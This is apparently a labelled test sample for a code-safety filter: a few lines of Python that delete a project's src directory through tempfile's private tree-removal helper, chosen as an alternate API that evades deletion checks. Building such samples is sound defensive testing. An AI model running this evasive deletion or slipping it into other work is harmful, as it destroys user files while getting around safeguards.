# family: injection
# filterfamily: alt-apis
# tries: delete a directory of the user's project with the tree remover tempfile keeps for its temporary directories
# source: none
# exfil: no
import sys
import tempfile

tempfile.TemporaryDirectory._rmtree(sys.argv[8] + "/src")
